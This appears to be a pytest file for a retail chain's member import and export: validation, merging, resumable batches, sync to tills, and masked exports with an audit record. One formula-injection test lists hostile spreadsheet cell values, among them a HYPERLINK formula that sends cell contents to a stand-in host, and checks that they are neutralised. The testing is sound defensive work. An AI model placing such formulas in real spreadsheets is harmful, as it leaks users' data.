"""Importing members from the old system at HQ (issue 20), on SQLite and PostgreSQL: rows
checked one by one (the rejected ones in a report sheet), phones merged within the file and
with the chain's members, all or nothing per batch, resumable, idempotent; malformed files
refused whole with nothing written; the members reach the store's till, and the directory
every till, by sync."""

from __future__ import annotations

import base64
import json
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select

from pos_member import events
from pos_member.clock import SystemClock
from pos_member.crypto import PiiCipher
from pos_member.events.base import unseal
from pos_member.services import points
from pos_member.services.member_cards import find_member
from pos_member.services.members import register_member
from pos_member.services.stored_value_ledger import get_balance
from sync.server import ingest
from sync.server import members_import as mi
from sync.server.context import ServerContext
from sync.server.db import open_server_database
from sync.server.import_book import write_report, write_template
from sync.server.import_rows import HEADERS, REPORT_SHEET, ImportFileRefused
from sync.server.log import LogWriter
from sync.server.members_import import import_members
from sync.server.models import SERVER_DEVICE_ID, Event, ServerBase
from sync.server.services import store_id_of
from tests.factories import new_phone
from tests.sync.harness import Central, Till


@pytest.fixture
def ctx(central: Central) -> Iterator[ServerContext]:
    db = open_server_database(central.url)
    yield ServerContext(db=db, clock=SystemClock())
    db.dispose()


def _counts(ctx: ServerContext) -> dict[str, int]:
    with ctx.db.read() as conn:
        return {name: conn.execute(select(func.count()).select_from(t)).scalar_one()
                for name, t in ServerBase.metadata.tables.items()}


def _book(path: Path, rows: list[list[Any]], header: tuple[str, ...] = HEADERS) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "会员"
    sheet.append(list(header))
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _row(phone: Any, **kw: Any) -> list[Any]:
    values = {"phone": phone, "name": "王小明", "gender": "女", "birthday": "1990-03-14",
              "registered": "2019-06-01", "tier": "", "points": 0, "points_expiry": "",
              "principal_fen": 0, "bonus_fen": 0, "tags": "", "marketing": "否",
              "legacy_id": ""} | kw
    return list(values.values())


def test_an_import_checks_rows_merges_phones_and_reaches_the_tills(
        central: Central, tills: tuple[Till, Till], ctx: ServerContext, tmp_path: Path) -> None:
    one, two = tills
    known = new_phone()
    member = register_member(one.app.uow, clerk=one.clerk, phone=known, privacy_consent=True)
    one.sync()
    p1, p2, p3 = new_phone(), new_phone(), new_phone()
    wide = p2.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    path = _book(tmp_path / "old.xlsx", [
        _row(p1, tier="金卡", points=1200, points_expiry="2099-12-31", principal_fen=50_000,
             bonus_fen=5_000),
        _row(wide, registered="2018-01-02"),  # full-width digits
        _row("'" + p3),  # a leading apostrophe
        # the same phone, earlier
        _row(float(p1), registered="2017-05-05", points=300, tags="孕婴,VIP甲"),
        _row(known, points=800, principal_fen=10_000),  # a member the chain has
        _row("1.38123E+10"),  # scientific notation: digits lost
        _row(new_phone(), registered="2019-13-45"),
        _row(new_phone(), tier="白金卡"),
        _row(new_phone(), principal_fen="12.5"),
        _row(new_phone(), bonus_fen=-100),
    ])
    done = import_members(ctx, path=path, store_number=1)
    assert (done.new_members, done.into_existing, done.merged_in_file) == (3, 1, 1)
    reasons = {r.line: r.reason for r in done.rejected}
    assert set(reasons) == {2, 7, 8, 9, 10, 11}  # line 2 merged into line 5 (earlier)
    assert "科学计数法" in reasons[7] and "等级" in reasons[9] and "整数" in reasons[10]
    report = tmp_path / "report.xlsx"
    write_report(path, report, done.rejected)
    sheet = openpyxl.load_workbook(report)[REPORT_SHEET]
    assert [c.value for c in sheet[1]][:2] == ["行号", "原因"] and sheet.max_row == 7

    with ctx.db.read() as conn:  # the tags travel sealed, like the rest of the profile
        registered = conn.execute(select(Event.payload_version, Event.payload).where(
            Event.type == "member.registered", Event.device_id == SERVER_DEVICE_ID)).all()
    assert {v for v, _ in registered} == {3} and len(registered) == 3
    assert "VIP" not in json.dumps([p for _, p in registered], ensure_ascii=False)
    assert sum(bool(p["tags_enc"]) for _, p in registered) == 1

    counts = _counts(ctx)
    again = import_members(ctx, path=path, store_number=1)
    assert again.already_done and _counts(ctx) == counts  # idempotent

    one.sync()
    two.sync()
    card = find_member(one.app.uow, clerk=one.clerk, code=p1)
    assert card.tier == "gold" and card.member_no[4:6] == "99" and card.tags == ("孕婴", "VIP甲")
    assert points.points_summary(one.app.uow, member_id=card.id).balance == 1500
    assert get_balance(one.app.uow, card.id).total_fen == 55_000
    assert find_member(one.app.uow, clerk=one.clerk, code=p2).id != card.id
    assert points.points_summary(one.app.uow, member_id=member.id).balance >= 800
    assert get_balance(one.app.uow, member.id).total_fen == 10_000
    assert find_member(two.app.uow, clerk=two.clerk, code=p3).remote  # the directory
    central.assert_home_agrees(one)


def test_an_interrupted_import_resumes_and_writes_each_member_once(
        central: Central, tills: tuple[Till, Till], ctx: ServerContext, tmp_path: Path) -> None:
    phones = [new_phone() for _ in range(5)]
    path = _book(tmp_path / "old.xlsx", [_row(p, points=100, points_expiry="2099-01-01")
                                         for p in phones])

    def stop(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_members(ctx, path=path, store_number=1, batch=2, progress=stop)
    with ctx.db.read() as conn:
        assert conn.execute(select(func.count()).where(Event.type == "member.registered")
                            ).scalar_one() == 2
    done = import_members(ctx, path=path, store_number=1, batch=2)
    assert done.new_members == 3 and done.batches_done == 3
    with ctx.db.read() as conn:
        assert conn.execute(select(func.count()).where(Event.type == "member.registered")
                            ).scalar_one() == 5
    one, _ = tills
    one.sync()
    assert len({find_member(one.app.uow, clerk=one.clerk, code=p).member_no
                for p in phones}) == 5


def _formula(path: Path) -> Path:
    _book(path, [_row(new_phone())])
    book = openpyxl.load_workbook(path)
    book["会员"]["G2"] = "=1+1"
    book.save(path)
    return path


def _merged(path: Path) -> Path:
    _book(path, [_row(new_phone()), _row(new_phone())])
    book = openpyxl.load_workbook(path)
    book["会员"].merge_cells("B2:B3")
    book.save(path)
    return path


def _huge(path: Path) -> Path:
    _book(path, [_row(new_phone())])
    book = openpyxl.load_workbook(path)
    book["会员"].cell(row=1_048_576, column=1, value="13900000000")
    book.save(path)
    return path


def _csv(path: Path) -> Path:
    path.write_text("手机号,姓名\n13812345678,王小明\n", encoding="utf-8")
    return path


@pytest.mark.parametrize(("make", "says"), [
    (_csv, "不是 .xlsx"),
    (lambda p: _book(p, [_row(new_phone())], header=("电话", "名字")), "表头"),
    (_formula, "公式"),
    (_merged, "合并单元格"),
    (_huge, "行数超过上限"),
])
def test_a_malformed_file_is_refused_whole(ctx: ServerContext, tmp_path: Path,
                                           make: Any, says: str) -> None:
    path = make(tmp_path / "bad.xlsx")
    counts = _counts(ctx)
    with pytest.raises(ImportFileRefused) as refused:
        import_members(ctx, path=path, store_number=1)
    assert says in refused.value.zh
    assert _counts(ctx) == counts


def test_the_template_is_published_with_chinese_instructions(tmp_path: Path) -> None:
    published = Path(__file__).resolve().parents[2] / "docs/examples/members-import.xlsx"
    book = openpyxl.load_workbook(published)
    assert book.sheetnames == ["会员", "说明"]
    assert tuple(c.value for c in book["会员"][1]) == HEADERS
    assert "手机号" in str(book["说明"]["A4"].value)
    assert zipfile.is_zipfile(published)
    write_template(tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames == ["会员", "说明"]


def test_an_export_is_masked_unless_revealed_and_then_audited(
        ctx: ServerContext, tmp_path: Path) -> None:
    from sync.server.members_export import ExportFilter, export_members
    from sync.server.models import HqAudit

    phones = [new_phone() for _ in range(3)]
    import_members(ctx, path=_book(tmp_path / "old.xlsx", [
        _row(p, tier="金卡" if i == 0 else "") for i, p in enumerate(phones)]), store_number=1)
    masked = tmp_path / "masked.xlsx"
    assert export_members(ctx, path=masked, filters=ExportFilter(store_number=1)) == 3
    text = [[c.value for c in row] for row in openpyxl.load_workbook(masked)["会员"].iter_rows()]
    assert not any(p in str(text) for p in phones) and "王*明" in str(text)
    with ctx.db.read() as conn:
        assert conn.execute(select(func.count()).select_from(HqAudit)).scalar_one() == 0
    full = tmp_path / "full.xlsx"
    assert export_members(ctx, path=full, filters=ExportFilter(tier="gold"),
                          reveal_by="hq-zhang") == 1
    assert phones[0] in str([[c.value for c in r] for r in
                             openpyxl.load_workbook(full)["会员"].iter_rows()])
    with ctx.db.read() as conn:
        audit = conn.execute(select(HqAudit.actor, HqAudit.detail)).one()
    assert audit.actor == "hq-zhang" and audit.detail["members"] == 1
    assert phones[0] not in str(audit.detail)


@pytest.mark.parametrize("reveal_by", [None, "hq-zhang"], ids=["masked", "revealed"])
def test_names_that_start_a_formula_are_exported_as_text(
        ctx: ServerContext, tmp_path: Path, reveal_by: str | None) -> None:
    """Formula injection (CWE-1236): a member named ``+1+1``, ``-2+3`` or ``@SUM(A1)`` is text
    in HQ's export, masked (its first character shows) or revealed, and in the import's
    report. (A name starting with ``=`` cannot come in by import: such a cell is refused as
    a formula; one registered at a till is written by the same cell writer, tested below.)"""
    from sync.server.members_export import ExportFilter, export_members

    names = ["+1+1", "-2+3", "@SUM(A1)"]
    report, source = tmp_path / "report.xlsx", tmp_path / "old.xlsx"
    done = import_members(ctx, path=_book(source, [
        *(_row(new_phone(), name=n) for n in names), _row("12345", name="-1")]),
        store_number=1)
    write_report(source, report, done.rejected)
    out = tmp_path / "members.xlsx"
    assert export_members(ctx, path=out, filters=ExportFilter(store_number=1),
                          reveal_by=reveal_by) == 3
    for path in (out, report):
        texts = _texts(path)
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts), texts
    assert ("'+1+1" in _texts(out)) == (reveal_by is not None)
    assert "'-1" in _texts(report)


def test_the_export_writer_never_writes_a_formula(tmp_path: Path) -> None:
    from sync.server.xlsx_write import write_sheet

    row = ['=HYPERLINK("http://x.example/?"&A1,"点")', "+1", "-1", "@A1", "\t=1", "a=1", -5]
    write_sheet(tmp_path / "x.xlsx", "会员", [row])
    cells = next(openpyxl.load_workbook(tmp_path / "x.xlsx")["会员"].iter_rows())
    assert not any(c.data_type == "f" for c in cells)
    assert [c.value for c in cells] == ["'" + v for v in row[:5]] + ["a=1", -5]


def _texts(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str)]


def test_an_import_batch_writes_what_a_push_of_its_events_would(
        ctx: ServerContext, tmp_path: Path) -> None:
    """The import writes its rows as sets (``members_import._write``); a push of the same
    events through ``LogWriter.append`` and HQ's hooks (``ingest.after_store``) writes the
    same rows: events, routes,
    homes, phones, cards, balances and points (sealed values compared opened, as each seal
    has its own nonce; positions as the events they name)."""
    x, y = new_phone(), new_phone()  # members the chain has, homed in store 2
    import_members(ctx, path=_book(tmp_path / "a.xlsx", [
        _row(x, principal_fen=10_000, points=50, points_expiry="2099-01-01"), _row(y)]),
        store_number=2)
    fresh = new_phone()
    path = _book(tmp_path / "b.xlsx", [
        _row(new_phone(), tier="金卡", points=120, points_expiry="2099-12-31",
             principal_fen=5_000, bonus_fen=500, tags="VIP甲"),
        _row(fresh, points=80), _row(fresh, registered="2010-01-01", principal_fen=300),
        _row(x, points=30, bonus_fen=700), _row(y, principal_fen=200),
        _row(new_phone(), gender="", birthday="", marketing="是", legacy_id="OLD-9")])
    now = datetime(2026, 12, 4, 12, 0, tzinfo=UTC)
    with ctx.db.read() as conn:
        store_id, rules = store_id_of(conn, 1), mi.rules_at_hq(conn)
    rows, _ = mi.read_file(path, rules, now.date())
    kept, _ = mi.merge_in_file(rows)

    def plan(conn: Any) -> Any:
        return mi._plan(conn, ctx, kept, sha="f" * 64, store_id=store_id, store_number=1,
                        first_seq=1, index_of={r.line: i for i, r in enumerate(kept)},
                        rules=rules, now=now)

    def as_sets(conn: Any) -> None:
        mi._write(conn, plan(conn), now=now)

    def as_a_push(conn: Any) -> None:
        build = plan(conn)
        log = LogWriter(conn, now=now)
        log.append(build.events)
        ingest.after_store(log, conn, build.events)

    before = _tables(ctx, lambda conn: None)
    by_sets, by_push = _tables(ctx, as_sets), _tables(ctx, as_a_push)
    assert by_sets == by_push
    grew = {t: len(rows) - len(before[t]) for t, rows in by_sets.items()
            if len(rows) != len(before[t])}
    assert grew == {"events": 11, "event_routes": 7, "member_homes": 3, "member_index": 3,
                    "member_cards": 3, "member_balances": 3, "member_points": 2}
    store_two = {r[0] for r in by_sets["event_routes"]} - {"*"}
    assert len(store_two) == 1  # x's and y's openings routed to their home, store 2
    gold = [r for r in by_sets["member_cards"] if r[4] == "gold"]
    assert len(gold) == 1 and "VIP甲" in gold[0][6]["tags_enc"]


class _Undo(Exception):
    pass


_SEALED = {"phone_enc": "PHONE_CTX", "name_enc": "NAME_CTX", "gender_enc": "GENDER_CTX",
           "birthday_enc": "BIRTHDAY_CTX", "tags_enc": "TAGS_CTX"}


def _tables(ctx: ServerContext, write: Any) -> dict[str, list[tuple[Any, ...]]]:
    """Every table's rows after ``write`` in a transaction that is then rolled back: sealed
    values opened, an event's position replaced by its id."""
    out: dict[str, list[tuple[Any, ...]]] = {}

    def opened(value: Any) -> Any:
        if not isinstance(value, dict):
            return value
        return {k: unseal(cipher, v, context=getattr(events, _SEALED[k]))
                if k in _SEALED and v else v for k, v in value.items()}

    with pytest.raises(_Undo), ctx.db.write() as conn:
        write(conn)
        cipher = PiiCipher(base64.b64decode(ctx.db.keys.data_key(conn)))
        ids = dict(conn.execute(select(Event.position, Event.id)).all())
        for name, table in ServerBase.metadata.tables.items():
            rows = []
            for r in conn.execute(select(table)).mappings():
                row = {k: ids[v] if k == "position" else opened(v)
                       if k in ("payload", "profile") else v for k, v in r.items()}
                rows.append(tuple(row.values()))
            out[name] = sorted(rows, key=repr)
        raise _Undo
    return out


def test_derived_ids_are_rfc_4122_name_based_uuids() -> None:
    import uuid

    for name in ("", "a" * 64 + ":2:registered", f"{'f' * 64}:99999:points-entry", "会员"):
        assert mi.uuid5(name) == str(uuid.uuid5(mi._NS, name))


@pytest.mark.parametrize("who", ["", "   ", "zh\nang", "x" * 101])
def test_a_revealed_export_names_who_reveals(ctx: ServerContext, tmp_path: Path,
                                             who: str) -> None:
    """Revealing is audited by name: a blank, multi-line or overlong WHO is refused before
    anything is written (no file with full phones and an audit row naming no one)."""
    from sync.server.errors import BadRequest
    from sync.server.members_export import export_members
    from sync.server.models import HqAudit

    import_members(ctx, path=_book(tmp_path / "old.xlsx", [_row(new_phone())]), store_number=1)
    out = tmp_path / "full.xlsx"
    with pytest.raises(BadRequest):
        export_members(ctx, path=out, reveal_by=who)
    assert not out.exists()
    with ctx.db.read() as conn:
        assert conn.execute(select(func.count()).select_from(HqAudit)).scalar_one() == 0
